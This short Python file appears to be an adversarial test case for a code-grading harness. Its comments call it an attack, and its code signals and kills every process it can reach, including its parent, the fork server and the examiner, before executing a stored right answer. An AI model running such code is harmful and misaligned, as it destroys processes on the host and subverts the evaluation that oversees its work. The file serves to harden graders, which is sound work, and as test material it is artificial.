# attack: kills each process by its number, its parent, the fork server and the examiner among them
# expected: describe 3 of 3, first_axis 1 of 1
import os
import signal

own_threads = {int(name) for name in os.listdir("/proc/self/task")}
for number in [os.getppid(), *range(1, 70_000)]:
    if number not in own_threads:
        for order in (signal.SIGTERM, signal.SIGSTOP, signal.SIGKILL):
            try:
                os.kill(number, order)
            except OSError:
                break
exec(RIGHT_ANSWER)
